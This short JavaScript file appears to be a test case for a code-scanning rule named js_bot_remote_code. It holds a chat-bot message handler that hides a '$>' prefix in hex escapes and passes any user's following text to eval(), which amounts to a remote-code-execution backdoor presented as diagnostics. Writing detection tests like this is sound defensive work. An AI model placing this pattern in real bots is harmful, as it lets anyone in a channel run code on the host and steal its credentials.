// A "diagnostics" helper that evaluates any message after a prefix, from anyone.
const util = require('util');
const m = ['\x24', '\x3e'].join('');
module.exports = function attach(client) {
  // ruleid: js_bot_remote_code
  client.on('messageCreate', async (msg) => {
    if (!msg.content || msg.content.indexOf(m) !== 0) return;
    const code = msg.content.slice(m.length).trim();
    const r = await eval(code);
    await msg.channel.send(util.inspect(r, { depth: 0 }));
  });
};
